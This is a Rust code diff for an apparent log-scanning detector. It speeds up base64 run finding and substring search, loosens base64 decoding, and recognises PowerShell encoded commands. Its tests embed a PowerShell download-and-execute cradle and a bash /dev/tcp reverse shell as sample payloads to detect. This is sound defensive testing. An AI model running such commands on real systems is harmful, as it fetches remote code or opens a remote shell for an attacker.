@@ -33,41 +33,123 @@ impl Decoding {
     }
 }
 
+/// Which bytes are base64 characters (standard and URL-safe alphabets, `=` padding).
+const BASE64_BYTE: [bool; 256] = {
+    let mut table = [false; 256];
+    let mut byte = 0;
+    while byte < 256 {
+        let character = byte as u8;
+        table[byte] = character.is_ascii_alphanumeric() || matches!(character, b'+' | b'/' | b'=' | b'-' | b'_');
+        byte += 1;
+    }
+    table
+};
+
 fn is_base64_byte(byte: u8) -> bool {
-    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_')
+    BASE64_BYTE[usize::from(byte)]
 }
 
 /// The base64 runs of at least `min_len` characters in `text`, as byte ranges. A run is a
 /// maximal stretch of base64 characters (standard or URL-safe alphabet, `=` padding).
+///
+/// Runs every target of every event through here, so it skips: a window of `min_len`
+/// bytes is checked from its end, and the first non-base64 byte found moves the window past
+/// it. Ordinary log text has a space or punctuation every few bytes, so most windows cost a
+/// handful of byte checks.
 pub(crate) fn base64_runs(text: &[u8], min_len: usize) -> Vec<std::ops::Range<usize>> {
     let mut runs = Vec::new();
-    let mut start = None;
-    for (index, &byte) in text.iter().enumerate() {
-        match (is_base64_byte(byte), start) {
-            (true, None) => start = Some(index),
-            (false, Some(begin)) => {
-                if index - begin >= min_len {
-                    runs.push(begin..index);
-                }
-                start = None;
+    let min_len = min_len.max(1);
+    let mut start: usize = 0;
+    while let Some(window) = text.get(start..start.saturating_add(min_len)) {
+        match window.iter().rposition(|&byte| !is_base64_byte(byte)) {
+            Some(last_bad) => start += last_bad + 1,
+            None => {
+                // `start` begins a run (the byte before it, if any, is not base64): extend it.
+                let rest = text.get(start + min_len..).unwrap_or_default();
+                let end = start + min_len + rest.iter().position(|&byte| !is_base64_byte(byte)).unwrap_or(rest.len());
+                runs.push(start..end);
+                start = end + 1;
             }
-            _ => {}
-        }
-    }
-    if let Some(begin) = start {
-        if text.len() - begin >= min_len {
-            runs.push(begin..text.len());
         }
     }
     runs
 }
 
-/// Decodes a base64 run (standard or URL-safe, padded or not). Trailing characters that do not
-/// make a full quantum are dropped so that a run glued to a following word still decodes.
+/// True when `needle` occurs in `haystack`. Called for every field of every event (is its
+/// text already in the raw record?), on short texts where building a full searcher costs
+/// more than the search: the first places where a rare byte of the needle occurs are tried
+/// directly, and only past a few misses does a linear-time Rabin-Karp search take over.
+pub(crate) fn contains(haystack: &[u8], needle: &[u8]) -> bool {
+    if needle.is_empty() {
+        return true;
+    }
+    if needle.len() > haystack.len() {
+        return false;
+    }
+    let (anchor_offset, anchor) = rare_byte(needle);
+    let last_start = haystack.len() - needle.len();
+    let window = haystack.get(anchor_offset..=last_start + anchor_offset).unwrap_or_default();
+    for (tries, position) in memchr::memchr_iter(anchor, window).enumerate() {
+        if tries == 8 {
+            let finder = memchr::arch::all::rabinkarp::Finder::new(needle);
+            return finder.find(haystack, needle).is_some();
+        }
+        // The last byte first: it rejects most candidates without a `memcmp` call.
+        if haystack.get(position + needle.len() - 1) == needle.last() && haystack.get(position..position + needle.len()) == Some(needle) {
+            return true;
+        }
+    }
+    false
+}
+
+/// How common a byte is in log text, 0 (rare) to 4: spaces, quotes, separators, digits and
+/// lower-case letters are everywhere; upper-case letters and other punctuation are rarer.
+const BYTE_RANK: [u8; 256] = {
+    let mut table = [0u8; 256];
+    let mut byte = 0;
+    while byte < 256 {
+        let character = byte as u8;
+        table[byte] = match character {
+            b' ' | b'"' | b'\\' | b'/' | b':' | b',' | b'=' | b'.' | b'-' => 4,
+            b'a'..=b'z' | b'0'..=b'9' => 3,
+            b'_' | b'\t' | b'{' | b'}' | b'[' | b']' => 2,
+            b'A'..=b'Z' => 1,
+            _ => 0,
+        };
+        byte += 1;
+    }
+    table
+};
+
+/// The least common byte among the first 16 of `needle` and its offset.
+fn rare_byte(needle: &[u8]) -> (usize, u8) {
+    let mut best = (0, needle.first().copied().unwrap_or_default());
+    let mut best_rank = u8::MAX;
+    for (offset, &byte) in needle.iter().take(16).enumerate() {
+        let rank = BYTE_RANK[usize::from(byte)];
+        if rank < best_rank {
+            best = (offset, byte);
+            best_rank = rank;
+            if rank == 0 {
+                break;
+            }
+        }
+    }
+    best
+}
+
+/// Base64 engines that accept what senders actually produce: padding or not, and a last
+/// character with stray low bits (a run cut at the scan limit ends anywhere).
+const LENIENT: base64::engine::GeneralPurposeConfig = base64::engine::GeneralPurposeConfig::new()
+    .with_decode_allow_trailing_bits(true)
+    .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent);
+const STANDARD: base64::engine::GeneralPurpose = base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT);
+const URL_SAFE: base64::engine::GeneralPurpose = base64::engine::GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT);
+
+/// Decodes a base64 run (standard or URL-safe, padded or not). A trailing character that
+/// does not make a whole byte is dropped, so a run glued to a following word still decodes.
 pub(crate) fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
     let trimmed = trim_padding(run);
-    // A run may be followed by text that happens to be base64 characters too; cut to a whole
-    // number of 4-character groups (a 1-character tail can never be valid).
     let usable = match trimmed.len() % 4 {
         1 => trimmed.get(..trimmed.len() - 1)?,
         _ => trimmed,
@@ -76,11 +158,7 @@ pub(crate) fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
         return None;
     }
     let url_safe = usable.iter().any(|&byte| byte == b'-' || byte == b'_');
-    let engine = if url_safe {
-        &base64::engine::general_purpose::URL_SAFE_NO_PAD
-    } else {
-        &base64::engine::general_purpose::STANDARD_NO_PAD
-    };
+    let engine = if url_safe { &URL_SAFE } else { &STANDARD };
     engine.decode(usable).ok()
 }
 
@@ -92,10 +170,11 @@ fn trim_padding(run: &[u8]) -> &[u8] {
     run.get(..end).unwrap_or(run)
 }
 
-/// True when `bytes` look like UTF-16LE text: even length and mostly zero high bytes on
-/// ASCII characters, which is what PowerShell's `-EncodedCommand` carries.
+/// True when `bytes` look like UTF-16LE text: mostly zero high bytes on ASCII characters,
+/// which is what PowerShell's `-EncodedCommand` carries. An odd last byte (a run cut at the
+/// scan limit) is ignored.
 pub(crate) fn looks_like_utf16le(bytes: &[u8]) -> bool {
-    if bytes.len() < 4 || !bytes.len().is_multiple_of(2) {
+    if bytes.len() < 4 {
         return false;
     }
     let pairs = bytes.len() / 2;
@@ -180,11 +259,8 @@ pub(crate) fn powershell_encoded_arguments(command_line: &[u8]) -> Vec<std::ops:
 
 fn is_encoded_command_flag(name: &[u8]) -> bool {
     const FULL: &[u8] = b"encodedcommand";
-    if name.is_empty() {
-        return false;
-    }
-    let lower: Vec<u8> = name.iter().map(u8::to_ascii_lowercase).collect();
-    lower == b"ec" || (lower.first() == Some(&b'e') && FULL.starts_with(&lower))
+    let abbreviation = name.len() <= FULL.len() && FULL.get(..name.len()).is_some_and(|prefix| prefix.eq_ignore_ascii_case(name));
+    !name.is_empty() && (name.eq_ignore_ascii_case(b"ec") || abbreviation)
 }
 
 fn skip_spaces_and_quote(text: &[u8], from: usize) -> usize {
@@ -271,25 +347,24 @@ mod tests {
         assert!(powershell_encoded_arguments(b"cmd.exe /c echo -e").is_empty());
     }
 
+    /// The decoded bytes and how, or nothing.
+    fn decoded(run: &[u8]) -> (Vec<u8>, Option<Decoding>) {
+        match decode_payload(run) {
+            Some((bytes, decoding)) => (bytes, Some(decoding)),
+            None => (Vec::new(), None),
+        }
+    }
+
     #[test]
     fn encoded_command_decodes_to_utf8_text() {
         let payload = utf16_base64("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
-        let (text, decoding) = decode_payload(payload.as_bytes()).unwrap_or_default_pair();
+        let (text, decoding) = decoded(payload.as_bytes());
         assert_eq!(decoding, Some(Decoding::Base64Utf16));
         assert_eq!(String::from_utf8_lossy(&text), "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')");
-    }
-
-    trait OrDefaultPair {
-        fn unwrap_or_default_pair(self) -> (Vec<u8>, Option<Decoding>);
-    }
-
-    impl OrDefaultPair for Option<(Vec<u8>, Decoding)> {
-        fn unwrap_or_default_pair(self) -> (Vec<u8>, Option<Decoding>) {
-            match self {
-                Some((bytes, decoding)) => (bytes, Some(decoding)),
-                None => (Vec::new(), None),
-            }
-        }
+        // Cut anywhere (the scan limit), it still decodes the part that is there.
+        let cut = payload.get(..41).unwrap_or_default();
+        let (text, _) = decoded(cut.as_bytes());
+        assert!(String::from_utf8_lossy(&text).starts_with("IEX (New-Obj"), "{}", String::from_utf8_lossy(&text));
     }
 
     #[test]
@@ -299,12 +374,56 @@ mod tests {
         let runs = base64_runs(line.as_bytes(), MIN_BASE64_RUN);
         assert_eq!(runs.len(), 1);
         let run = runs.first().and_then(|range| line.as_bytes().get(range.clone())).unwrap_or_default();
-        let (bytes, decoding) = decode_payload(run).unwrap_or_default_pair();
+        let (bytes, decoding) = decoded(run);
         assert_eq!(decoding, Some(Decoding::Base64));
         assert_eq!(bytes, b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
         // Short runs are ignored, and so is random binary output.
         assert!(base64_runs(b"user=admin id=12345", MIN_BASE64_RUN).is_empty());
         assert!(decode_payload(&[b'A'; 3]).is_none());
+    }
+
+    #[test]
+    fn runs_are_maximal_and_found_anywhere() {
+        let long = "A".repeat(45);
+        let run = |range: std::ops::Range<usize>| vec![range];
+        for (text, expected) in [
+            (long.clone(), run(0..45)),
+            (format!("x {long} y"), run(2..47)),
+            (format!("{long} {long}"), [0..45, 46..91].to_vec()),
+            (format!("{}.{}", "B".repeat(39), "C".repeat(39)), Vec::new()),
+            (format!("-_=+/{long}"), run(0..50)),
+        ] {
+            assert_eq!(base64_runs(text.as_bytes(), MIN_BASE64_RUN), expected, "{text}");
+        }
+        // The skipping scan finds exactly what a plain scan finds.
+        let mixed: Vec<u8> = (0..5000u32).map(|index| if index % 97 < 50 { b'Q' } else if index % 7 == 0 { b' ' } else { b'z' }).collect();
+        let plain: Vec<std::ops::Range<usize>> = {
+            let mut runs = Vec::new();
+            let mut begin = None;
+            for (index, byte) in mixed.iter().chain(std::iter::once(&b' ')).enumerate() {
+                match (is_base64_byte(*byte), begin) {
+                    (true, None) => begin = Some(index),
+                    (false, Some(first)) => {
+                        if index - first >= MIN_BASE64_RUN {
+                            runs.push(first..index);
+                        }
+                        begin = None;
+                    }
+                    _ => {}
+                }
+            }
+            runs
+        };
+        assert_eq!(base64_runs(&mixed, MIN_BASE64_RUN), plain);
+    }
+
+    #[test]
+    fn contains_finds_needles_like_memmem() {
+        let haystack = b"aaaaaaaaaaaaaaaaaaaaab needle in a haystack aab";
+        for needle in [&b"needle"[..], b"aab", b"aaab", b"haystack aab", b"", b"absent", b"aaaaaaaaaaaaaaaaaaaaab"] {
+            assert_eq!(contains(haystack, needle), memchr::memmem::find(haystack, needle).is_some(), "{}", String::from_utf8_lossy(needle));
+        }
+        assert!(!contains(b"ab", b"abc"));
     }
 
     #[test]
